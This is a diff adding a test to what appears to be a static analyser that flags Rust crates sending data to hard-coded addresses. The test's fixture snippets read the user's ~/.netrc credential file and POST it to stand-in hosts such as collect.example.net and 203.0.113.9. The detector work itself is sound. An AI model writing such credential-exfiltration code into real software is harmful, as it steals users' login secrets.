@@ -303,6 +303,30 @@ def test_a_flow_to_an_address_the_crate_fixes() -> None:
     assert [flow.fixed for flow in flows(chosen)] == [False]
 
 
+def test_a_url_template_given_a_host_constant_is_a_fixed_address() -> None:
+    read = f'{HOME}let d = std::fs::read(home.join(".netrc")).ok()?;\n'
+    for host in ('"collect.example.net"', '"203.0.113.9"'):
+        for url in ('format!("https://{}:{}/u", HOST, PORT)', 'format!("wss://{HOST}:{PORT}")'):
+            source = (
+                f"const HOST: &str = {host};\nconst PORT: u16 = 8443;\n"
+                f"pub fn f() -> Option<()> {{\n{read}let url = {url};\n"
+                "ureq::post(&url).send_bytes(&d).ok()?; None }\n"
+            )
+            assert [flow.fixed for flow in flows(source)] == [True], (host, url)
+    # a local service, a host that names the crate, a host not in a URL's place
+    for host, template in (
+        ('"localhost"', '"https://{}/u"'),
+        ('"api.sample.example"', '"https://{}/u"'),
+        ('"collect.example.net"', '"data/{}.log"'),
+    ):
+        source = (
+            f"const HOST: &str = {host};\n"
+            f"pub fn f() -> Option<()> {{\n{read}let url = format!({template}, HOST);\n"
+            "ureq::post(&url).send_bytes(&d).ok()?; None }\n"
+        )
+        assert [flow.fixed for flow in flows(source)] == [False], (host, template)
+
+
 def test_host_facts_count_only_when_sent_to_an_address_the_crate_fixes() -> None:
     # the computer's name copied into a datagram's buffer, sent to a raw IP of the crate's
     beacon = (
